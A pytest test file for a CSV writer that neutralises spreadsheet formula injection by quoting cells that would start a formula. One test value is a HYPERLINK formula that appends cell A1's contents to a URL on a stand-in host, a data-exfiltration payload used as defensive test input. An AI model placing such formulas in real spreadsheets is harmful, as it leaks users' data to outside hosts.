"""CSV for spreadsheets: what would run as a formula is text, and everything else is what it was."""

import csv
from pathlib import Path

import polars as pl
import pytest

from training.audience.spreadsheet import harmless, write_spreadsheet_csv

LINK = '=HYPERLINK("http://x.example/?"&A1,"offer; now")'


@pytest.mark.parametrize("sign", list("=+-@＝＋－＠"))
@pytest.mark.parametrize(
    "blanks", ["", " ", "\u00a0", "\u3000", "\ufeff", "\x00", "\t", "\r", "\n"]
)
def test_a_cell_that_would_begin_a_formula_gets_a_single_quote(sign: str, blanks: str) -> None:
    cell = f"{blanks}{sign}1+1"
    assert harmless(pl.Series([cell])).to_list() == [f"'{cell}"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("\tplain", "'\tplain"),
        ("\rplain", "'\rplain"),
        ("7;=1+1", "7;'=1+1"),  # where a spreadsheet splits at semicolons
        ("7\n@SUM(A1)\t-2", "7\n'@SUM(A1)\t'-2"),
        ("-12.5", "'-12.5"),  # text: of an id nobody knows that it is a number
        ("=1\n=2", "'=1\n'=2"),
    ],
)
def test_what_a_spreadsheet_may_take_for_a_cell_of_its_own(cell: str, safe: str) -> None:
    assert harmless(pl.Series([cell])).to_list() == [safe]


@pytest.mark.parametrize(
    "cell",
    [
        "17850",
        "a=b",
        "T-shirt, 2 + 1",
        "ada@shop.example",
        "'=1+1",
        " ",
        "",
        None,
        "973dfe463ec85785f5f95af5ba3906eedb2d931c24e69824a89ea65dba4e813b",  # SHA-256 of an e-mail
    ],
)
def test_other_cells_stay(cell: str | None) -> None:
    assert harmless(pl.Series([cell], dtype=pl.String)).to_list() == [cell]


def test_cells_with_quotes_line_ends_and_separators_come_back_whole(tmp_path: Path) -> None:
    texts = ['say "hi", you', "two\r\nlines", "a;b\tc", LINK, None, "plain"]
    table = pl.DataFrame({"id": texts, "clv": [-12.5, 1e-9, 3.0, None, 0.0, -1.0]})
    assert write_spreadsheet_csv(table, tmp_path / "list.csv") == 1
    with (tmp_path / "list.csv").open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert header == ["id", "clv"]
    assert [row[0] for row in rows] == [*texts[:3], f"'{LINK}", "", "plain"]
    assert [float(row[1]) if row[1] else None for row in rows] == table["clv"].to_list()
    assert '"\'=HYPERLINK(""http://x.example/?""' in (tmp_path / "list.csv").read_text()
